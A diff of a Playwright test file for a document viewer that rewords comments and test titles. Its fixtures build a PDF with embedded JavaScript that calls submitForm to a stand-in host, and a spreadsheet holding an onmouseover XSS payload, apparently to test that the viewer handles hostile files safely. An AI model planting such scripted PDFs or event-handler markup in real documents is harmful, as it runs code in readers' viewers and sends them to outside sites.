@@ -5,7 +5,7 @@ import { expectAccessible } from './looks.ts'
 import { openAs } from './people.ts'
 import { viewer } from './viewer.ts'
 
-/** A PDF that would run a script when it is opened, and leads elsewhere. */
+/** A PDF that tries to run a script when it is opened, and links to another site. */
 const scripted = (() => {
   const script = '/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://elsewhere.example/"\\);)'
   const objects = [
@@ -18,7 +18,7 @@ const scripted = (() => {
   return Buffer.from(`%PDF-1.7\n${body}trailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n`)
 })()
 
-/** A workbook of two sheets; the first is longer and wider than what is shown, and holds markup and a link. */
+/** A workbook of two sheets; the first exceeds the display limits, and contains markup and a link. */
 function hostileBook(): Buffer {
   const head = [
     '<b onmouseover=alert(1)>bold</b>',
@@ -36,7 +36,7 @@ function hostileBook(): Buffer {
   return Buffer.from(write(book, { type: 'buffer', bookType: 'xlsx' }))
 }
 
-test('cards, wound images and documents of a request are one row of files, and whoever reads it saves all', async ({
+test('cards, wound images and documents of a request are one sequence of files, and every reader can download all', async ({
   page,
 }) => {
   test.slow()
@@ -96,7 +96,7 @@ test('cards, wound images and documents of a request are one row of files, and w
   expect((await download).suggestedFilename()).toMatch(/^IVR-\d+\.zip$/)
 })
 
-test('a name opened with Ctrl leads to a tab of its own, and a phone shows the viewer over all of it', async ({
+test('a file name opened with Ctrl opens a new tab, and on a phone the viewer fills the screen', async ({
   browser,
 }) => {
   const phone = await browser.newContext({ viewport: { width: 375, height: 667 } })
